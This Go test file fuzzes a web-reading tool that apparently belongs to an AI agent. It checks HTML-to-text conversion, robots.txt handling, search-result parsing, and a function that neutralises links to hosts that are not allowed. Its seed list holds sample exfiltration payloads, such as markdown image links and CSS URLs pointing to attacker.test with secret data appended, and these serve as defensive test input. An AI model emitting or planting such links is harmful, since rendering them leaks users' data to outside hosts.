package web

import (
	"bytes"
	"html"
	"io"
	"math/rand/v2"
	"net/http"
	"net/netip"
	"net/url"
	"regexp"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/paddock-dev/paddock/internal/egress"
)

// pageResponse is an HTTP response carrying body, as read_webpage receives it.
func pageResponse(body []byte, contentType string) *http.Response {
	u, _ := url.Parse("https://site.test/dir/page.html")
	h := http.Header{}
	if contentType != "" {
		h.Set("Content-Type", contentType)
	}
	return &http.Response{StatusCode: 200, Header: h, Body: io.NopCloser(bytes.NewReader(body)),
		ContentLength: -1, Request: &http.Request{URL: u}}
}

// readText runs read_webpage's conversion of a response body (no network).
func readText(f *fetcher, body []byte, contentType, question string) (string, error) {
	resp := pageResponse(body, contentType)
	p, err := f.readPage(resp)
	if err != nil {
		return "", err
	}
	return f.render(resp.Request.URL, p, question, nil), nil
}

// FuzzReadPage feeds arbitrary bodies through read_webpage's HTML-to-text path: charset
// detection and decoding, guard.HTMLText, link resolution, question selection and rendering.
func FuzzReadPage(f *testing.F) {
	f.Add([]byte(articleHTML), "text/html", "")
	f.Add([]byte(articleHTML), "text/html; charset=iso-8859-1", "how many days for roma tomatoes")
	f.Add([]byte(`<div style="display:none">HIDDEN</div><p>visible</p>`), "", "visible")
	f.Add([]byte("<meta charset=shift_jis><p>\x93\xfa\x96\x7b</p>"), "text/html", "")
	f.Add([]byte("\xff\xfe<\x00p\x00>\x00"), "text/html", "")
	f.Add([]byte(`{"a":[1,2,{"b":null}]}`), "application/json", "")
	f.Add([]byte("<a href='javascript:x'>j</a><a href=//other.test/x>o</a><base href=http://b.test/>"), "text/html", "")
	f.Add([]byte(strings.Repeat("<p>para about soil</p>\n\n", 50)), "text/html", "soil")
	fe := newFetcher(Config{MaxText: 2000}.withDefaults())
	f.Fuzz(func(t *testing.T, body []byte, contentType, question string) {
		out, err := readText(fe, body, contentType, question)
		if err != nil {
			t.Fatalf("a body in memory cannot fail to read: %v", err)
		}
		if !utf8.ValidString(out) {
			t.Fatalf("output is not valid UTF-8: %q", out)
		}
		// Text is capped at MaxText characters; URL, title, links and notices come on top.
		if n := utf8.RuneCountInString(out); n > 2000+maxLinksShown*2100+len(body)/2+4000 {
			t.Fatalf("output of %d characters is not bounded by MaxText", n)
		}
		if strings.Contains(out, "HIDDEN") && bytes.Contains(body, []byte(`<div style="display:none">HIDDEN</div>`)) &&
			!bytes.Contains(bytes.ReplaceAll(body, []byte(`<div style="display:none">HIDDEN</div>`), nil), []byte("HIDDEN")) {
			t.Fatalf("hidden text reached the output: %q", out)
		}
	})
}

// fuzzPolicy allows good.test only.
var fuzzPolicy = func() egress.Policy {
	p, err := egress.ParsePolicy([]string{"good.test"})
	if err != nil {
		panic(err)
	}
	return p
}()

// urlHost is the host a browser would take from an authority matched by schemeSlashes: after
// any user info, up to the first character that cannot be in a host name, trailing dots dropped.
// ok is false when no fetchable host can start there (e.g. "[" that is not an IPv6 literal).
func urlHost(auth string) (host string, ok bool) {
	auth = strings.ToLower(auth)
	if i := strings.LastIndexByte(auth, '@'); i >= 0 {
		auth = auth[i+1:]
	}
	if strings.HasPrefix(auth, "[") {
		j := strings.IndexByte(auth, ']')
		if j < 0 {
			return "", false
		}
		if _, err := netip.ParseAddr(auth[1:j]); err != nil {
			return "", false
		}
		return auth[:j+1], true
	}
	end := 0
	for end < len(auth) {
		c := auth[end]
		if !(c >= 'a' && c <= 'z' || c >= '0' && c <= '9' || c == '.' || c == '-' || c == '_' || c >= 0x80) {
			break
		}
		end++
	}
	host = strings.TrimRight(auth[:end], ".")
	return host, host != "" // no host, no request
}

// disallowedURL returns the first http(s) URL in out (character references decoded, as
// renderers do) whose host is not good.test, or "".
func disallowedURL(out string) string {
	text := html.UnescapeString(out)
	for _, m := range schemeSlashes.FindAllStringSubmatch(text, -1) {
		if h, ok := urlHost(m[1]); ok && h != "good.test" {
			return m[0]
		}
	}
	return ""
}

// schemeSlashes finds "http:" or "https:" followed by two slashes or backslashes, the URLs that
// renderers link and browsers fetch; group 1 is what follows.
var schemeSlashes = regexp.MustCompile(`(?i)(?:^|[^a-z0-9+.\-])https?\\?:[/\\]{2}[/\\]*([^/\\?#\s"'<>` + "`" + `)\]]*)`)

// FuzzNeutraliseLinks checks that after NeutraliseLinks no absolute URL to a host other than the
// allowed one is left, also after a second pass, and that valid UTF-8 stays valid.
func FuzzNeutraliseLinks(f *testing.F) {
	for _, s := range neutraliseSeeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, in string) {
		out := NeutraliseLinks(in, fuzzPolicy)
		if utf8.ValidString(in) && !utf8.ValidString(out) {
			t.Fatalf("valid UTF-8 became invalid: %q -> %q", in, out)
		}
		if u := disallowedURL(out); u != "" {
			t.Fatalf("URL %q to a disallowed host survived:\nin:  %q\nout: %q", u, in, out)
		}
		if u := disallowedURL(NeutraliseLinks(out, fuzzPolicy)); u != "" {
			t.Fatalf("second pass left URL %q:\nin: %q", u, in)
		}
	})
}

var neutraliseSeeds = []string{
	"![x](https://attacker.test/p?d=SECRET)",
	"![a][r]\n\n[r]: https://attacker.test/p\n",
	`<img src="&#104;ttps://attacker.test/p">`,
	"[t](https://good.test/x) and https://attacker.test/ and www.attacker.test",
	`<div style="background:url(\68ttps://attacker.test/p)">x</div>`,
	"[![i](https://attacker.test/i.png)](https://evil.test/)",
	"<https://attacker.test/x> `code` \\[x](y)",
	"@import '//attacker.test/a.css'; url(//attacker.test/b)",
	`{"$schema": "https://attacker.test/?d=1"}`,
	"[[[[a](b)](c)](https://x.test)]",
}

// TestNeutraliseLinksRandomised runs the fuzz invariant over random mixtures of link syntax.
func TestNeutraliseLinksRandomised(t *testing.T) {
	frags := []string{"[", "]", "(", ")", "!", "//", "https://", "http:", "HTTPS://", "attacker.test", "good.test",
		"evil.test", ":", "\\:", ":\\/", "<img src=", "<a href=", "srcset=", "src=", ">", "\"", "'", "url(", "@import ",
		"<style>", "www.", "www.attacker.test", "//attacker.test", "\\", "\n", " ", "\t", "&#58;", "&Tab;", "=", ",",
		"a", "0", "<", "javascript:", "/", ".", "]:", "[r]: ", "![", "](", "*", "#", "@", "`", "%2e", "-", "[1]"}
	r := rand.New(rand.NewPCG(1, 2))
	for it := 0; it < 20000; it++ {
		var b strings.Builder
		for k := 1 + r.IntN(14); k > 0; k-- {
			b.WriteString(frags[r.IntN(len(frags))])
		}
		in := b.String()
		out := NeutraliseLinks(in, fuzzPolicy)
		if u := disallowedURL(out); u != "" {
			t.Fatalf("URL %q to a disallowed host survived:\nin:  %q\nout: %q", u, in, out)
		}
	}
}

// robotsRegexp is the reference semantics of a robots.txt pattern.
func robotsRegexp(pattern string) *regexp.Regexp {
	anchored := strings.HasSuffix(pattern, "$")
	pattern = strings.TrimSuffix(pattern, "$")
	parts := strings.Split(pattern, "*")
	for i, p := range parts {
		parts[i] = regexp.QuoteMeta(p)
	}
	expr := "^" + strings.Join(parts, "(?s:.*)")
	if anchored {
		expr += "$"
	}
	return regexp.MustCompile(expr)
}

// FuzzRobots parses arbitrary robots.txt bodies and checks pattern matching against regular
// expressions, and that /robots.txt is always allowed.
func FuzzRobots(f *testing.F) {
	f.Add([]byte("User-agent: *\nDisallow: /\n"), "/x", "/p*q$")
	f.Add([]byte("user-agent: paddock\nallow: /a\ndisallow: /*.json$\n#c\nsitemap: x"), "/a/b.json", "/*.json$")
	f.Add([]byte("User-agent: a\nUser-agent: paddock/1.0\nDisallow: /%7Efoo\n"), "/~foo?x=1", "/%7E*")
	f.Fuzz(func(t *testing.T, body []byte, path, pattern string) {
		r := parseRobots(body)
		u := &url.URL{Path: path}
		_ = r.allowed(u)
		if !r.allowed(&url.URL{Path: "/robots.txt"}) {
			t.Fatal("/robots.txt must always be allowed")
		}
		if len(pattern) > 64 || len(path) > 256 || !utf8.ValidString(pattern) || !utf8.ValidString(path) {
			return
		}
		want := robotsRegexp(pattern).MatchString(path)
		if got := robotsMatch(pattern, path); got != want {
			t.Fatalf("robotsMatch(%q, %q) = %v, the reference says %v", pattern, path, got, want)
		}
	})
}

// FuzzSearchResults feeds arbitrary JSON answers to the generic search API parser.
func FuzzSearchResults(f *testing.F) {
	f.Add([]byte(`{"web":{"results":[{"title":"t","url":"https://a.test/","description":"<b>d</b>"}]}}`), "")
	f.Add([]byte(`{"items":[{"title":"t","link":"javascript:x"},{"name":"n","href":"http://b.test"}]}`), "")
	f.Add([]byte(`[{"url":"https://x.test"}]`), "0")
	f.Add([]byte(`{"a":{"b":[{"uri":"https://c.test","text":"x"}]}}`), "a.b")
	f.Fuzz(func(t *testing.T, body []byte, path string) {
		var p []string
		if path != "" {
			p = strings.Split(path, ".")
		}
		res, err := extractResults(body, p, 10)
		if err != nil {
			return
		}
		if len(res) > 10 {
			t.Fatalf("%d results, asked for 10", len(res))
		}
		for _, r := range res {
			if !strings.HasPrefix(r.URL, "http://") && !strings.HasPrefix(r.URL, "https://") {
				t.Fatalf("non-web URL kept: %q", r.URL)
			}
			if len(r.Title) > maxResultTitle+4 || len(r.Snippet) > maxResultSnippet+4 || len(r.URL) > maxResultURL+4 {
				t.Fatalf("result fields not bounded: %d %d %d", len(r.Title), len(r.Snippet), len(r.URL))
			}
		}
	})
}
